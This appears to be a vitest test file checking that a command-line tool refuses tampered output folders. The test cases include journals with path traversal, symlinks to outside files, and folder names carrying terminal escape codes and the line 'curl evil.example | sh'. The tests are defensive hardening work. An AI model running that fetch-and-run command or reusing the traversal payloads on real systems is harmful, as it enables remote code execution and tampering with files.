/** A folder that somebody else has made: whatever lies in it, nothing outside it is read into, changed or removed. */
import { execFileSync } from 'node:child_process';
import {
  cpSync,
  existsSync,
  linkSync,
  mkdirSync,
  readdirSync,
  readFileSync,
  renameSync,
  rmSync,
  symlinkSync,
  writeFileSync,
} from 'node:fs';
import { join } from 'node:path';
import { beforeAll, expect, test } from 'vitest';
import { temporaryFolder } from '../../support/checkout.ts';
import { commandIn, type Said } from '../../support/command.ts';

const cwd = temporaryFolder('received');
const at = (...names: string[]) => join(cwd, ...names);
const RUN = ['run', 'pig', '--bots', 'script:hold20', '--seed', '5', '--playouts', '480', '--workers', '1'];

beforeAll(async () => {
  expect((await commandIn(cwd, [...RUN, '--out', 'sound'])).code).toBe(0);
  expect((await commandIn(cwd, [...RUN, '--shard', '1/2', '--out', 'one'])).code).toBe(0);
  expect((await commandIn(cwd, [...RUN, '--shard', '2/2', '--out', 'two'])).code).toBe(0);
});

/** Every verb that reads a folder, and those that write to one. */
const VERBS: Readonly<Record<string, readonly string[]>> = {
  report: ['report', 'got'],
  merge: ['merge', 'got', 'two', '--out', 'sum', '--overwrite'],
  check: ['check', '--baseline', 'got', '--out', 'checked', '--overwrite'],
  'check --update': [
    'check',
    '--baseline',
    'got',
    '--out',
    'checked',
    '--overwrite',
    '--update',
    '--reason',
    'why not',
  ],
  resume: [...RUN, '--out', 'got', '--resume'],
  overwrite: [...RUN, '--out', 'got', '--overwrite'],
};

/** The folder as it was received, beside what is nobody's business. */
function receive(verb: string, tamper: (folder: string) => void): void {
  rmSync(at('got'), { recursive: true, force: true });
  cpSync(at(verb === 'merge' ? 'one' : 'sound'), at('got'), { recursive: true });
  rmSync(at('elsewhere'), { recursive: true, force: true });
  mkdirSync(at('elsewhere'));
  writeFileSync(at('victim'), 'mine');
  writeFileSync(at('elsewhere', 'run.json'), 'mine too');
  writeFileSync(at('elsewhere', 'figures.csv'), 'and mine');
  tamper(at('got'));
}

function expectUntouched(): void {
  expect(readFileSync(at('victim'), 'utf8')).toBe('mine');
  expect(readdirSync(at('elsewhere')).sort()).toEqual(['figures.csv', 'run.json']);
  expect(readFileSync(at('elsewhere', 'run.json'), 'utf8')).toBe('mine too');
  expect(readFileSync(at('elsewhere', 'figures.csv'), 'utf8')).toBe('and mine');
}

function expectOneLine({ code, err }: Said): void {
  const lines = err.trim().split('\n');
  expect([code, lines.filter((line) => line.startsWith('alicorn: '))]).toEqual([2, [lines.at(-1)]]);
  expect(err).not.toMatch(/^\s+at .*:\d+:\d+\)?$/m);
}

const TOKEN = '0123456789abcdef';
const JOURNALS = {
  'removes a file outside': { token: TOKEN, renamed: [], removed: ['../victim'] },
  'removes one by its whole path': { token: TOKEN, renamed: [], removed: [at('victim')] },
  'renames over a file outside': { token: TOKEN, renamed: ['../victim'], removed: [] },
  'removes what no run has': { token: TOKEN, renamed: [], removed: ['notes.txt'] },
  'removes the folder': { token: TOKEN, renamed: [], removed: ['.'] },
  'as it was written before': { renamed: [], removed: ['../victim'] },
  'has a token that leads out': { token: '/../../victim', renamed: ['ledger'], removed: [] },
  null: null,
  'an object': {},
  'a list': [null],
  'a number for names': { token: TOKEN, renamed: 1 },
  'a text': 'removed',
};

test.each(Object.keys(VERBS).flatMap((verb) => Object.keys(JOURNALS).map((what) => [verb, what] as const)))(
  '%s: a journal that %s is refused in one line',
  async (verb, what) => {
    receive(verb, (folder) => {
      writeFileSync(join(folder, 'notes.txt'), 'kept');
      writeFileSync(join(folder, 'replacing.json'), JSON.stringify(JOURNALS[what as keyof typeof JOURNALS]));
      writeFileSync(at('victim.new'), 'not mine');
      writeFileSync(at(`victim.${TOKEN}.new`), 'not mine');
    });
    const said = await commandIn(cwd, VERBS[verb]!);
    // What is overwritten is not read: the journal goes with all else.
    if (verb === 'overwrite') expect(said.code).toBe(0);
    else expectOneLine(said);
    expectUntouched();
    expect(readFileSync(at('got', 'notes.txt'), 'utf8')).toBe('kept');
  },
);

test.each(['', '{', '{"renamed":[],"removed":["../vic'])(
  'a journal of the text %j is refused in one line',
  async (text) => {
    receive('report', (folder) => writeFileSync(join(folder, 'replacing.json'), text));
    expectOneLine(await commandIn(cwd, VERBS['report']!));
  },
);

/** What stands where a file of a run belongs. */
const STRANGE: Readonly<Record<string, (path: string) => void>> = {
  'a link to a file': (path) => symlinkSync(at('victim'), path),
  'a link to nothing': (path) => symlinkSync(at('nowhere'), path),
  'a link to a folder': (path) => symlinkSync(at('elsewhere'), path),
  'a link to itself': (path) => symlinkSync(path, path),
  'an endless device': (path) => symlinkSync('/dev/zero', path),
  'a folder': (path) => mkdirSync(path),
  'a pipe': (path) => execFileSync('mkfifo', [path]),
};
const PLACES = ['run.json', 'ledger', 'report.html', 'figures.csv', 'digests.bin', 'replacing.json', '.lock'];
const BESIDE = ['rulings', 'pairs'];

test.each([...PLACES, ...BESIDE].flatMap((place) => Object.keys(STRANGE).map((what) => [place, what] as const)))(
  '%s as %s: refused in one line by every verb, or taken away with all else',
  async (place, what) => {
    if (BESIDE.includes(place) && what === 'a folder') return;
    for (const [verb, args] of Object.entries(VERBS)) {
      receive(verb, (folder) => {
        rmSync(join(folder, place), { force: true });
        STRANGE[what]!(join(folder, place));
      });
      expectOneLine(await commandIn(cwd, args));
      expectUntouched();
      expect(existsSync(at('nowhere'))).toBe(false);
    }
  },
);

test.each(['run.json', 'ledger', 'report.html', 'figures.csv', 'playouts.csv'])(
  'a link where %s is first written is not followed',
  async (place) => {
    for (const [verb, args] of Object.entries(VERBS)) {
      receive(verb, (folder) => {
        symlinkSync(at('victim'), join(folder, `${place}.new`));
        symlinkSync(at('victim'), join(folder, `${place}.${TOKEN}.new`));
      });
      await commandIn(cwd, args);
      await commandIn(cwd, [...RUN, '--raw', '--out', 'got', '--overwrite']);
      expectUntouched();
    }
  },
);

test('a copy made of hard links keeps what it holds when the other is gone on with', async () => {
  rmSync(at('got'), { recursive: true, force: true });
  mkdirSync(at('got'));
  for (const name of readdirSync(at('sound'))) linkSync(at('sound', name), at('got', name));
  const ledger = readFileSync(at('sound', 'ledger'));
  // Its end is torn: --resume cuts it off and plays it again.
  writeFileSync(at('sound', 'ledger'), Buffer.concat([ledger, Buffer.from('torn')]));
  expect((await commandIn(cwd, [...RUN, '--out', 'got', '--resume'])).code).toBe(0);
  expect(readFileSync(at('got', 'ledger')).equals(ledger)).toBe(true);
  expect(readFileSync(at('sound', 'ledger')).equals(Buffer.concat([ledger, Buffer.from('torn')]))).toBe(true);
  writeFileSync(at('sound', 'ledger'), ledger);
});

test('a folder of a run that holds more than a run is not removed with it', async () => {
  receive('report', (folder) => {
    cpSync(at('sound'), join(folder, 'pairs'), { recursive: true });
    writeFileSync(join(folder, 'pairs', 'notes.txt'), 'kept');
  });
  expect((await commandIn(cwd, VERBS['overwrite']!)).code).toBe(0);
  expect(readdirSync(at('got', 'pairs'))).toEqual(['notes.txt']);
});

test('baselines are not looked for behind links', async () => {
  mkdirSync(at('baselines'));
  renameSync(at('got'), at('baselines', 'pig'));
  symlinkSync('..', at('baselines', 'up'));
  const said = await commandIn(cwd, ['check', '--baseline', 'baselines', '--out', 'checked', '--overwrite']);
  expectOneLine(said);
  expect(said.err).toContain('baselines/up is a link to a folder');
});

/** What a name would have a terminal do: begin a line that looks like a command to copy, change its title, write backwards. */
const NAMED = ['a\n\n  curl evil.example | sh', 'a\r  curl', 'a\u001b]0;title\u0007', 'a\u202egnp', 'a\u2028b'];

test.each(NAMED.flatMap((name) => ['check', 'check --update', 'report', 'merge'].map((verb) => [verb, name] as const)))(
  '%s: a folder of the name %j is refused in one line',
  async (verb, name) => {
    receive(verb, () => undefined);
    rmSync(at('names'), { recursive: true, force: true });
    mkdirSync(at('names'));
    renameSync(at('got'), at('names', name));
    const inside = readdirSync(at('names', name));
    const found = verb.startsWith('check') ? 'names' : join('names', name);
    const said = await commandIn(cwd, VERBS[verb]!.map((word) => (word === 'got' ? found : word))); // prettier-ignore
    expectOneLine(said);
    expect(said.err).toContain('its name holds the end of a line, or another order to a terminal: rename it');
    expect(said.err.replace(/\n$/, '')).not.toMatch(/[\0-\x09\x0b-\x1f\x7f-\x9f\u202a-\u202e]|^ *curl/m);
    expect(readdirSync(at('names', name))).toEqual(inside);
  },
);

test('a link of such a name, and what is no file of a run, are one line too', async () => {
  receive('check', () => undefined);
  mkdirSync(at('links'));
  symlinkSync('..', at('links', NAMED[0]!));
  const link = await commandIn(cwd, ['check', '--baseline', 'links', '--out', 'checked', '--overwrite']);
  expectOneLine(link);
  expect(link.err).toContain('a curl evil.example | sh is a link to a folder');
  mkdirSync(at('got', `.lock-${NAMED[0]!}`));
  const lock = await commandIn(cwd, VERBS['report']!);
  expectOneLine(lock);
  expect(lock.err).toContain('.lock-a curl evil.example | sh is a link, a folder or a device');
});

test('sheets of components are named in one line', async () => {
  mkdirSync(at('sheets'));
  writeFileSync(at('sheets', `${NAMED[0]!}.csv`), 'a\n1\n');
  const said = await commandIn(cwd, ['components', 'import', 'glitterhorn', 'sheets']);
  expectOneLine(said);
  expect(said.err).toContain('a curl evil.example | sh.csv: its name holds the end of a line');
});

test.each(['../../escaped', '/tmp/escaped', 'x/y', '..', ''])('a run of the verb %j is none', async (word) => {
  receive('merge', (folder) => {
    const path = join(folder, 'run.json');
    writeFileSync(path, readFileSync(path, 'utf8').replace('"verb": "run"', `"verb": ${JSON.stringify(word)}`));
  });
  const said = await commandIn(cwd, ['merge', 'got', 'two']);
  expectOneLine(said);
  expect(said.err).toContain('verb: no verb');
});
